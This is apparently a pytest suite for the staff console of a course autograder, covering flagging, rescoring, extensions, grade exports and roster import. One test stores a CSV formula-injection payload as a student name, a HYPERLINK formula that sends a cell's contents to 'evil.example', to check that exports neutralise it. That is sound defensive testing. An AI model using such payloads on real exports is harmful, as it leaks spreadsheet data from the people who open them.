"""The TA console: submissions, a run in full, rerun, flag, thresholds and rescoring,
extensions, exports, roster import, nightly history, queue, creating an assignment."""
from __future__ import annotations

import csv
import datetime as dt
import html
import io
import json
import re
import zipfile

from sqlalchemy import func, select

import grader
from store.models import (Assignment, GradingRun, LoginToken, NightlyResult, NightlyRun, StaffTask, StoredSpec,
                          TestResultRow, User)

from webtest_helpers import csrf_of, export, finish_task, measured, multipart, store_graded_run


def post_form(client, page_url: str, action: str, data: dict, **kw):
    token = csrf_of(client.get(page_url).get_data(as_text=True))
    return client.post(action, data={"csrf_token": token, **data}, **kw)


def test_submissions_search_and_run_in_full(client_for, db, course_setup, tiny_reports):
    run = store_graded_run(db, course_setup["alice"], course_setup["assignment"], tiny_reports["optimized"])
    store_graded_run(db, course_setup["bob"], course_setup["assignment"], tiny_reports["relaxed"], filename="asst4.zip")
    ta = client_for("tara")
    assert "workers alive" in ta.get("/staff/").get_data(as_text=True)
    listing = ta.get("/staff/submissions?q=alice").get_data(as_text=True)
    assert "alice@example.edu" in listing and "bob@example.edu" not in listing
    assert "<td>simulated (nkisim)</td>" in listing and "<td>sim</td>" not in listing      # words, not ids
    assert '<option value="neuron" >Trainium2 hardware</option>' in listing
    assert "asst4.zip" in ta.get("/staff/submissions?assignment=tiny&status=done&flagged=no").get_data(as_text=True)
    detail = ta.get(f"/staff/runs/{run.id}").get_data(as_text=True)
    assert 'data-seed>424242<' in detail and "Full report JSON" in detail
    assert "· simulated (nkisim) · queue sim" in detail                                     # the status row
    assert ta.get(f"/staff/runs/{run.id}/file").data == run.submission.data
    gradescope = ta.get(f"/staff/runs/{run.id}/results.json").get_json()
    assert gradescope["score"] == run.score_total and gradescope["tests"]


def test_the_console_marks_the_run_that_counts_and_shows_maxima(client_for, db, course_setup, tiny_reports):
    """Finding: the staff run page showed no score and the list a score without its maximum; and
    neither said which of a student's runs counts (store/runs.py's best-run rule)."""
    best = store_graded_run(db, course_setup["alice"], course_setup["assignment"], tiny_reports["optimized"])
    worse = store_graded_run(db, course_setup["alice"], course_setup["assignment"], measured(tiny_reports["optimized"], 50))
    assert worse.score_total < best.score_total
    ta = client_for("tara")
    listing = ta.get("/staff/submissions").get_data(as_text=True)
    cells = {int(row.split('href="/staff/runs/', 1)[1].split('"', 1)[0]): row.split("data-score>", 1)[1].split("</td>", 1)[0]
             for row in listing.split("<tr>")[2:]}
    assert cells[best.id].startswith(f"{best.score_total:g} / {best.max_total:g}") and "data-counted" in cells[best.id]
    assert cells[worse.id] == f"{worse.score_total:g} / {worse.max_total:g}"
    page = ta.get(f"/staff/runs/{best.id}").get_data(as_text=True)
    assert f"data-score>{best.score_total:g}/{best.max_total:g}" in page and 'data-counted="yes"' in page
    other = ta.get(f"/staff/runs/{worse.id}").get_data(as_text=True)
    assert 'data-counted="no"' in other and f'href="/staff/runs/{best.id}">run #{best.id}</a> counts' in other


def test_flag_rerun_and_cancel(client_for, db, course_setup, tiny_reports):
    run = store_graded_run(db, course_setup["alice"], course_setup["assignment"], measured(tiny_reports["optimized"], 30))
    ta = client_for("tara")
    page = f"/staff/runs/{run.id}"
    post_form(ta, page, f"/staff/runs/{run.id}/flag", {"reason": "copied kernel"})
    db.expire_all()
    assert db.get(GradingRun, run.id).flagged and db.get(GradingRun, run.id).flag_reason == "copied kernel"
    assert "alice_k" not in client_for("bob").get("/leaderboard/tiny").get_data(as_text=True)
    post_form(ta, page, f"/staff/runs/{run.id}/unflag", {})
    assert "alice_k" in client_for("bob").get("/leaderboard/tiny").get_data(as_text=True)
    rerun = post_form(ta, page, f"/staff/runs/{run.id}/rerun", {})
    fresh_id = int(rerun.headers["Location"].rsplit("/", 1)[1])
    db.expire_all()
    fresh = db.get(GradingRun, fresh_id)
    assert fresh.status == "queued" and fresh.submission_id == run.submission_id
    post_form(ta, f"/staff/runs/{fresh_id}", f"/staff/runs/{fresh_id}/cancel", {})
    db.expire_all()
    assert db.get(GradingRun, fresh_id).status == "cancelled"


def test_adopt_thresholds_and_rescore_without_running_kernels(client_for, db, course_setup, tiny_reports,
                                                              celery_worker):
    """The rescore is a staff task a worker on the staff queue does; the page follows it."""
    celery_worker("staff")
    assignment = course_setup["assignment"]
    run = store_graded_run(db, course_setup["alice"], assignment, measured(tiny_reports["optimized"], 50.0))
    assert run.score_total == 7.25                          # 50 us: relaxed tier under optimized = 40 us
    ta = client_for("tara")
    page = "/staff/assignments/tiny"
    bad = post_form(ta, page, f"{page}/thresholds", {"version": "t2", "thresholds": '{"perf_tiny": {"optimized": 90, "relaxed": 60}}',
                                                     "rescore": "y"})
    assert bad.status_code == 400 and "above the relaxed one" in bad.get_data(as_text=True)
    unknown = post_form(ta, page, f"{page}/thresholds", {"version": "t2", "thresholds": '{"conv_tiny": {"optimized": 1, "relaxed": 2}}'})
    assert unknown.status_code == 400 and "not a timed test" in unknown.get_data(as_text=True)
    good = post_form(ta, page, f"{page}/thresholds", {"version": "t2", "rescore": "y",
                                                      "thresholds": '{"perf_tiny": {"optimized": 55, "relaxed": 80}}'})
    status = finish_task(ta, good)
    assert status["summary"].startswith("Rescored 1 graded run under thresholds t2") and status["done"] == 1
    assert "Thresholds version t2 is in force" in ta.get(good.headers["Location"]).get_data(as_text=True)
    db.expire_all()
    assignment = db.get(Assignment, assignment.id)
    run = db.get(GradingRun, run.id)
    assert assignment.thresholds_version == "t2" and "optimized = 55" in assignment.spec_row.toml
    before = db.get(StoredSpec, assignment.spec_row.derived_from)          # a new spec row; the old one is kept
    assert before.thresholds_version == "t1" and "optimized = 55" not in before.toml
    assert run.score_total == 7.5 and run.thresholds_version == "t2"
    assert run.report["tests"][1]["thresholds_us"] == {"optimized": 55, "relaxed": 80}
    assert db.scalar(select(TestResultRow.points).where(TestResultRow.run_id == run.id,
                                                         TestResultRow.test_name == "perf_tiny")) == 5.0
    again = post_form(ta, page, f"{page}/thresholds", {"version": "t2", "thresholds": '{"perf_tiny": {"optimized": 1, "relaxed": 2}}'})
    assert again.status_code == 400 and "in force already" in again.get_data(as_text=True)


def test_tightening_a_threshold_by_more_than_10_percent_shows_what_it_does_and_asks_first(
        client_for, db, course_setup, tiny_reports, celery_worker):
    celery_worker("staff")
    assignment = course_setup["assignment"]
    run = store_graded_run(db, course_setup["alice"], assignment, measured(tiny_reports["optimized"], 35.0))
    store_graded_run(db, course_setup["bob"], assignment, measured(tiny_reports["optimized"], 20.0))
    ta = client_for("tara")
    page = "/staff/assignments/tiny"
    header = ta.get(page).get_data(as_text=True)
    assert "leaderboard visible to signed-in users only" in header and "signed_in" not in header    # words, not values
    assert "graded on the nkisim simulator" in header and "3 runs an hour per student" in header
    form = {"version": "t2", "rescore": "y", "thresholds": '{"perf_tiny": {"optimized": 30, "relaxed": 60}}'}
    asked = post_form(ta, page, f"{page}/thresholds", form)
    text = asked.get_data(as_text=True)
    assert asked.status_code == 409 and "data-confirm-thresholds" in text
    assert "-25.0%" in text and "40.0 us" in text and "30.0 us" in text
    assert "1 graded run would change tier" in text          # 35 us leaves the optimized tier; 20 us stays
    db.expire_all()
    assert db.get(Assignment, assignment.id).thresholds_version != "t2"       # nothing changed yet
    assert db.get(GradingRun, run.id).score_total == 7.5
    confirmed = post_form(ta, page, f"{page}/thresholds", {**form, "confirmed": "yes"})
    finish_task(ta, confirmed)
    assert "(-25.0%); 1 graded run change tier" in html.unescape(ta.get(confirmed.headers["Location"])
                                                                   .get_data(as_text=True))
    db.expire_all()
    assert db.get(Assignment, assignment.id).thresholds_version == "t2"
    assert db.get(GradingRun, run.id).score_total == 7.25
    # loosening, or tightening by 10% or less, is adopted at once with the same account
    small = post_form(ta, page, f"{page}/thresholds",
                      {"version": "t3", "thresholds": '{"perf_tiny": {"optimized": 28, "relaxed": 60}}'})
    assert small.status_code == 303


def test_nightly_proposal_prefills_only_tests_derived_from_reference_kernels(client_for, db, course_setup):
    """An extra-credit threshold is set by hand: the nightly's implied value is never proposed for it."""
    from store import specs
    from store.models import Course
    assignment = specs.new_assignment(db, "asst4-trainium2", course=db.get(Course, course_setup["course"].id),
                                      name="asst4", backend="sim")
    spec = specs.spec_of(assignment)
    night = NightlyRun(trigger="manual")
    db.add(night)
    db.flush()
    timed = [t for t in spec.tests if t.timed]
    for kernel in ("conv2d_optimized", "conv2d_relaxed"):
        db.add(NightlyResult(nightly_run_id=night.id, spec_name="asst4-trainium2", spec_version=spec.spec_version,
                             thresholds_version=spec.thresholds_version, reference_kernel=kernel, backend="sim",
                             p99_us={t.name: 10.0 for t in timed}, passed=True, drift=False,
                             implied_thresholds={t.name: 12.0 for t in timed},
                             thresholds_in_force={}, score_total=60.0, report={}))
    db.commit()
    page = client_for("tara").get("/staff/assignments/asst4").get_data(as_text=True)
    textarea = html.unescape(page.split('name="thresholds"', 1)[1].split(">", 1)[1].split("</textarea>", 1)[0])
    proposal = json.loads(textarea)
    in_force = spec.thresholds()
    for t in timed:
        if t.kind == "performance":
            assert proposal[t.name] == {"optimized": 12.0, "relaxed": 12.0}, t.name
        else:
            assert proposal[t.name] == in_force[t.name], t.name          # extra credit keeps its own


def test_extension_lets_one_student_submit_late(client_for, db, course_setup):
    assignment = course_setup["assignment"]
    assignment.deadline = dt.datetime.now(dt.timezone.utc) - dt.timedelta(hours=2)
    db.commit()
    until = (dt.datetime.now(dt.timezone.utc) + dt.timedelta(days=2)).strftime("%Y-%m-%dT%H:%M")
    ta = client_for("tara")
    granted = post_form(ta, "/staff/assignments/tiny", "/staff/assignments/tiny/extensions",
                        {"email": "bob@example.edu", "deadline": until}, follow_redirects=True)
    assert "bob@example.edu may submit tiny until" in granted.get_data(as_text=True)
    bob_page = client_for("bob").get("/a/tiny").get_data(as_text=True)
    alice_page = client_for("alice").get("/a/tiny").get_data(as_text=True)
    assert until.replace("T", " ") in bob_page and until.replace("T", " ") not in alice_page


def test_grade_exports(client_for, db, course_setup, tiny_reports, celery_worker):
    celery_worker("staff")
    store_graded_run(db, course_setup["alice"], course_setup["assignment"], measured(tiny_reports["optimized"], 30.0))
    store_graded_run(db, course_setup["alice"], course_setup["assignment"], measured(tiny_reports["optimized"], 50.0))
    ta = client_for("tara")
    rows = list(csv.DictReader(io.StringIO(export(ta, "tiny", "grades_csv").decode())))
    by_email = {r["email"]: r for r in rows}
    assert set(by_email) == {"alice@example.edu", "bob@example.edu"}
    assert float(by_email["alice@example.edu"]["total"]) == 7.5 and by_email["alice@example.edu"]["runs"] == "2"
    assert float(by_email["bob@example.edu"]["total"]) == 0 and by_email["bob@example.edu"]["run_id"] == ""
    # per-test columns of the counted run (the 30 us one): points, and the p99 of timed tests
    alice = by_email["alice@example.edu"]
    assert float(alice["perf_tiny points"]) == 5.0 and float(alice["perf_tiny p99_us"]) == 30.0
    assert "conv_tiny points" in alice and "conv_tiny p99_us" not in alice
    assert by_email["bob@example.edu"]["perf_tiny points"] == ""
    archive = zipfile.ZipFile(io.BytesIO(export(ta, "tiny", "gradescope_zip")))
    assert archive.namelist() == ["alice@example.edu/results.json"]
    assert json.loads(archive.read("alice@example.edu/results.json"))["score"] == 7.5


def test_grades_csv_cells_are_never_formulas(client_for, db, course_setup, tiny_reports, celery_worker):
    """A name or nickname a spreadsheet would run ('=HYPERLINK(...)', '+cmd', '@SUM') reaches the
    grades CSV as text."""
    alice = db.get(User, course_setup["alice"].id)
    alice.name = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    alice.nickname = "@SUM(1+1)"
    db.commit()
    store_graded_run(db, alice, course_setup["assignment"], measured(tiny_reports["optimized"], 30.0))
    celery_worker("staff")
    body = export(client_for("tara"), "tiny", "grades_csv").decode()
    row = next(r for r in csv.DictReader(io.StringIO(body)) if r["email"] == "alice@example.edu")
    assert row["name"] == "'" + '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    assert row["nickname"] == "'@SUM(1+1)"
    assert float(row["total"]) == 7.5                       # numbers stay numbers
    for cell in (c for r in csv.reader(io.StringIO(body)) for c in r):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_roster_import_all_or_nothing_with_login_links(client_for, db, course_setup):
    ta = client_for("tara")
    bad_csv = b"email,name,role\nnew1@example.edu,New One,student\nnot-an-email,X,student\nnew2@example.edu,Two,wizard\n"
    token = csrf_of(ta.get("/staff/roster").get_data(as_text=True))
    body, ctype = multipart({"csrf_token": token, "course": "CS149"}, "csv_file", "roster.csv", bad_csv)
    refused = ta.post("/staff/roster", data=body, content_type=ctype)
    text = refused.get_data(as_text=True)
    assert refused.status_code == 400 and "line 3" in text and "line 4" in text and "nothing was changed" in text
    assert db.scalar(select(func.count()).select_from(User).where(User.email.like("new%"))) == 0
    good_csv = "email,name,role\nnew1@example.edu,New One,student\nNEW2@example.edu,Zoë Two,\n".encode()
    body, ctype = multipart({"csrf_token": token, "course": "CS149"}, "csv_file", "roster.csv", good_csv)
    page = ta.post("/staff/roster", data=body, content_type=ctype).get_data(as_text=True)
    assert page.count("/login/link/") == 2
    db.expire_all()
    new2 = db.scalar(select(User).where(User.email == "new2@example.edu"))
    assert new2.name == "Zoë Two" and new2.role == "user"
    assert db.scalar(select(func.count()).select_from(LoginToken).where(LoginToken.user_id == new2.id)) == 1


def test_nightly_history_marks_drift_and_shows_implied_thresholds(client_for, db, course_setup):
    for night, (p99, drift) in enumerate(((30.0, False), (31.0, False), (45.0, True))):
        nightly = NightlyRun(status="done", trigger="beat", started_at=dt.datetime(2026, 11, 20 + night, 2, tzinfo=dt.timezone.utc))
        db.add(nightly)
        db.add(NightlyResult(nightly_run=nightly, spec_name=course_setup["assignment"].spec_name, spec_version="1",
                             thresholds_version="t1", reference_kernel="conv2d_optimized", backend="sim",
                             p99_us={"perf_tiny": p99}, passed=True, drift=drift,
                             drift_reason="p99 moved +45%" if drift else None,
                             implied_thresholds={"perf_tiny": p99 * 1.2},
                             thresholds_in_force={"perf_tiny": {"optimized": 40, "relaxed": 60}},
                             created_at=dt.datetime(2026, 11, 20 + night, 3, tzinfo=dt.timezone.utc)))
    db.commit()
    ta = client_for("tara")
    page = ta.get("/staff/nightly").get_data(as_text=True)
    assert page.count('class="marked"') == 1 and "p99 moved +45%" in page
    assert "54.0 us" in page and "40.0 us" in page                     # implied beside in force
    # titles and words, not ids and values (the finding: internal ids leak where people read titles)
    assert "<td>Performance: one small image, float16</td>" in page and "perf_tiny" not in page
    assert "conv2d_optimized · simulated (nkisim)</h2>" in page
    assignment_page = html.unescape(ta.get("/staff/assignments/tiny").get_data(as_text=True))
    assert '"optimized": 54.0' in assignment_page                       # the adopt form is prefilled with it


def test_admin_creates_an_assignment_and_tas_cannot(client_for, db, course_setup):
    made = post_form(client_for("ada"), "/staff/", "/staff/courses", {"course_name": "CS149 Fall"})
    assert made.status_code == 303
    data = {"course": "CS149 Fall", "name": "asst4", "spec": "asst4-trainium2", "backend": "sim",
            "runs_per_hour": "4", "visibility": "public", "deadline": "2026-12-12T23:59"}
    denied = post_form(client_for("tara"), "/staff/", "/staff/assignments", data)
    assert denied.status_code == 403
    created = post_form(client_for("ada"), "/staff/", "/staff/assignments", data)
    assert created.status_code == 303
    db.expire_all()
    assignment = db.scalar(select(Assignment).where(Assignment.name == "asst4"))
    assert assignment.spec_version and assignment.runs_per_hour == 4 and assignment.course.leaderboard_visibility == "public"
    assert assignment.spec_hash == grader.load_spec("asst4-trainium2").spec_hash
    assert "perf_224_pool1_float16" in assignment.spec_row.toml
    duplicate = post_form(client_for("ada"), "/staff/", "/staff/assignments", data)
    assert duplicate.status_code == 409


def test_the_create_form_defaults_to_trainium2_and_refuses_trainium1_thresholds_on_trainium2(client_for, db,
                                                                                              course_setup):
    admin = client_for("ada")
    console = admin.get("/staff/").get_data(as_text=True)
    assert '<option value="asst4-trainium2" selected>' in console          # not last year's, first alphabetically
    assert "thresholds for Trainium1" in console and "thresholds for Trainium2" in console
    data = {"course": "CS149", "name": "old-asst4", "spec": "asst4-trainium", "backend": "neuron",
            "runs_per_hour": "4", "visibility": "public", "deadline": ""}
    refused = post_form(admin, "/staff/", "/staff/assignments", data)
    assert refused.status_code == 400 and "not Trainium2" in html.unescape(refused.get_data(as_text=True))
    assert db.scalar(select(Assignment).where(Assignment.name == "old-asst4")) is None
    on_sim = post_form(admin, "/staff/", "/staff/assignments", {**data, "backend": "sim"})
    assert on_sim.status_code == 303


def test_an_admin_sets_who_sees_the_leaderboard_and_a_ta_cannot(app, client_for, db, course_setup):
    page = "/staff/assignments/tiny"
    made_public = post_form(client_for("ada"), page, f"{page}/visibility", {"visibility": "public"},
                            follow_redirects=True)
    assert "now visible to everyone" in made_public.get_data(as_text=True)
    assert app.test_client().get("/leaderboard/tiny").status_code == 200
    refused = post_form(client_for("tara"), page, f"{page}/visibility", {"visibility": "signed_in"})
    assert refused.status_code == 403
    bad = post_form(client_for("ada"), page, f"{page}/visibility", {"visibility": "friends"})
    assert bad.status_code == 400
    post_form(client_for("ada"), page, f"{page}/visibility", {"visibility": "signed_in"})
    assert app.test_client().get("/leaderboard/tiny").status_code == 302


def test_a_rescore_records_its_progress_as_it_goes_not_only_at_the_end(db, course_setup, tiny_reports):
    """The task's page follows progress_done: a rescore writes it every few runs, from 0 of N."""
    from workers import staff_tasks
    for i in range(23):
        store_graded_run(db, course_setup["alice"], course_setup["assignment"],
                         measured(tiny_reports["optimized"], 30.0 + i))
    seen = []
    assert staff_tasks.rescore_all(db, course_setup["assignment"], lambda done, total: seen.append((done, total))) == 23
    assert seen == [(0, 23), (10, 23), (20, 23), (23, 23)]
    assert staff_tasks.progress_text("rescore", 10, 23) == "10 of 23 runs rescored"


def test_regrade_queues_each_students_latest_submission_again(client_for, db, course_setup, tiny_reports,
                                                              celery_worker):
    """A staff task: a worker on the staff queue queues the runs; the web request only starts it."""
    old = store_graded_run(db, course_setup["alice"], course_setup["assignment"], measured(tiny_reports["optimized"], 50.0))
    latest = store_graded_run(db, course_setup["alice"], course_setup["assignment"],
                              measured(tiny_reports["optimized"], 30.0))
    bob = store_graded_run(db, course_setup["bob"], course_setup["assignment"], measured(tiny_reports["optimized"], 38.0))
    celery_worker("staff")
    ta = client_for("tara")
    asked = post_form(ta, "/staff/assignments/tiny", "/staff/assignments/tiny/tasks/regrade", {})
    # the first press only asks: it says how many students, and starts nothing
    assert asked.status_code == 200 and "data-confirm-regrade" in asked.get_data(as_text=True)
    assert "each of 2 students again" in asked.get_data(as_text=True)
    assert db.scalar(select(func.count()).select_from(StaffTask)) == 0
    started = post_form(ta, "/staff/assignments/tiny", "/staff/assignments/tiny/tasks/regrade", {"confirmed": "yes"})
    status = finish_task(ta, started)
    assert status["summary"].startswith("Queued 2 submissions") and (status["done"], status["total"]) == (2, 2)
    assert status["progress"] == "2 of 2 submissions queued again"
    assert "(2 of 2 submissions queued again)" in ta.get(started.headers["Location"]).get_data(as_text=True)
    db.expire_all()
    queued = db.scalars(select(GradingRun).where(GradingRun.status == "queued")).all()
    assert sorted(r.submission_id for r in queued) == sorted([latest.submission_id, bob.submission_id])
    assert old.submission_id not in {r.submission_id for r in queued}
    # the student's history marks the new run a regrade, and only it
    page = client_for("alice").get("/a/tiny").get_data(as_text=True)
    regraded = {int(m[1]) for m in re.finditer(r'<tr><td><a href="/runs/(\d+)">#\d+</a>(.*?)</tr>', page, re.S)
                if "data-regrade" in m[2]}
    assert regraded == {r.id for r in queued if r.submission_id == latest.submission_id}


def test_a_typo_in_the_course_makes_no_new_course(client_for, db, course_setup):
    """The course is chosen from the existing ones; a name that is not one is refused, never
    made on the fly (a new course is the site admin's own action)."""
    from store.models import Course
    admin = client_for("ada")
    console = admin.get("/staff/").get_data(as_text=True)
    assert '<select id="course" name="course"' in console and '<option value="CS149">CS149</option>' in console
    data = {"course": "CS194", "name": "asst4", "spec": "asst4-trainium2", "backend": "sim", "runs_per_hour": "4",
            "visibility": "public", "deadline": ""}
    refused = post_form(admin, "/staff/", "/staff/assignments", data)
    assert refused.status_code == 400 and "no course called 'CS194'" in html.unescape(refused.get_data(as_text=True))
    roster = post_form(admin, "/staff/roster", "/staff/roster", {"course": "CS194", "csv_file": (io.BytesIO(
        b"email\nnew@uni.edu\n"), "r.csv")}, content_type="multipart/form-data")
    assert roster.status_code == 400
    assert db.scalar(select(func.count()).select_from(Course)) == 1 and db.scalar(select(Assignment.id).where(
        Assignment.name == "asst4")) is None
    assert post_form(client_for("tara"), "/staff/", "/staff/courses", {"course_name": "CS194"}).status_code == 403
    assert post_form(admin, "/staff/", "/staff/courses", {"course_name": "CS149"}).status_code == 409


def test_one_late_student_is_added_to_the_course_without_a_csv(client_for, db, course_setup):
    ta = client_for("tara")
    page = ta.get("/staff/roster").get_data(as_text=True)
    assert "data-add-person" in page and '<select id="person-course" name="person-course"' in page
    added = post_form(ta, "/staff/roster", "/staff/roster/person", {"person-course": "CS149", "person-email": "Late@Uni.edu",
                                                                   "person-name": "Late Comer", "person-role": "student"})
    body = added.get_data(as_text=True)
    assert added.status_code == 200 and "late@uni.edu" in body and body.count("/login/link/") == 1
    assert "Added late@uni.edu to the course" in body and "Imported 1 person" not in body
    assert '<option value="ta">TA</option>' in page and "CS149: TA" in page     # roles as people read them
    late = db.scalar(select(User).where(User.email == "late@uni.edu"))
    assert late is not None and late.name == "Late Comer"
    # the roster's rules hold: a TA gives no staff role, and adds no one to a course that is not theirs
    as_ta = post_form(ta, "/staff/roster", "/staff/roster/person", {"person-course": "CS149", "person-email": "x@uni.edu",
                                                                   "person-role": "ta"})
    assert as_ta.status_code == 403
    elsewhere = post_form(ta, "/staff/roster", "/staff/roster/person", {"person-course": "CS999",
                                                                       "person-email": "y@uni.edu"})
    assert elsewhere.status_code == 403
    assert db.scalar(select(User).where(User.email.in_(["x@uni.edu", "y@uni.edu"]))) is None
    no_csrf = ta.post("/staff/roster/person", data={"person-course": "CS149", "person-email": "z@uni.edu"})
    assert no_csrf.status_code == 400 and db.scalar(select(User).where(User.email == "z@uni.edu")) is None


def test_deadlines_are_typed_and_shown_in_utc_not_with_a_local_picker(client_for, db, course_setup):
    """A datetime-local picker shows the viewer's local format and reads as local time whatever
    its label says: the deadline is written YYYY-MM-DD HH:MM and read as UTC."""
    admin = client_for("ada")
    for page in ("/staff/", "/staff/assignments/tiny"):
        text = admin.get(page).get_data(as_text=True)
        assert 'type="datetime-local"' not in text and 'placeholder="YYYY-MM-DD HH:MM"' in text
        assert "UTC, written YYYY-MM-DD HH:MM" in text
    post_form(admin, "/staff/", "/staff/courses", {"course_name": "CS150"})
    data = {"course": "CS150", "name": "asst5", "spec": "asst4-trainium2", "backend": "sim", "runs_per_hour": "4",
            "visibility": "public", "deadline": "2026-12-12 23:59"}
    assert post_form(admin, "/staff/", "/staff/assignments", data).status_code == 303
    db.expire_all()
    deadline = db.scalar(select(Assignment.deadline).where(Assignment.name == "asst5"))
    assert deadline == dt.datetime(2026, 12, 12, 23, 59, tzinfo=dt.timezone.utc)
    assert "deadline 2026-12-12 23:59 UTC" in admin.get("/staff/assignments/asst5").get_data(as_text=True)
    local = post_form(admin, "/staff/", "/staff/assignments", {**data, "name": "asst6", "deadline": "12/12/2026 11:59 PM"})
    assert local.status_code == 400
    assert "'12/12/2026 11:59 PM' is not a date and time written YYYY-MM-DD HH:MM, in UTC" in html.unescape(
        local.get_data(as_text=True))
    granted = post_form(admin, "/staff/assignments/tiny", "/staff/assignments/tiny/extensions",
                        {"email": "bob@example.edu", "deadline": "2030-01-02 03:04 UTC"}, follow_redirects=True)
    assert "bob@example.edu may submit tiny until 2030-01-02 03:04 UTC" in granted.get_data(as_text=True)


def test_the_threshold_table_names_tests_by_their_titles(client_for, db, course_setup):
    page = client_for("tara").get("/staff/assignments/tiny").get_data(as_text=True)
    table = page.split("<table data-thresholds>", 1)[1].split("</table>", 1)[0]
    assert "<td>Performance: one small image, float16 <code" in table and ">perf_tiny</code>" in table


def test_an_assignment_without_a_deadline_says_so_in_words_on_every_page(client_for, db, course_setup):
    """Walked as a newcomer: the staff console's table read "sim" and "-" and the student's pages
    "Deadline: -" for an assignment with no deadline. Pages say "none" and the backend's title."""
    course_setup["assignment"].deadline = None
    db.commit()
    console = client_for("tara").get("/staff/").get_data(as_text=True)
    row = console.split('href="/staff/assignments/tiny"', 1)[1].split("</tr>", 1)[0]
    assert "<td>simulated (nkisim)</td><td>none</td>" in row and "<td>sim</td>" not in row
    student = client_for("alice")
    home = student.get("/").get_data(as_text=True)
    assert "<td>none</td>" in home and "<td>-</td>" not in home
    page = student.get("/a/tiny").get_data(as_text=True)
    assert "No deadline" in page and "Deadline: <strong>-" not in page


def test_the_console_says_heartbeats_as_a_time_and_an_age(client_for, db, course_setup):
    """Finding: heartbeats were raw ISO timestamps with microseconds."""
    import re
    from store.models import WorkerHeartbeat
    seen = dt.datetime.now(dt.timezone.utc).replace(microsecond=123456) - dt.timedelta(seconds=20)
    db.add(WorkerHeartbeat(name="grader-sim-1@host", queues="sim", pid=4242, seen_at=seen))
    db.commit()
    page = client_for("tara").get("/staff/").get_data(as_text=True)
    cell = page.split("<td>grader-sim-1@host</td>", 1)[1].split("</tr>", 1)[0]
    assert re.search(r"<td>\d\d:\d\d:\d\d UTC \(2[0-9] s ago\)</td>", cell), cell
    assert seen.isoformat() not in page and ".123456" not in page
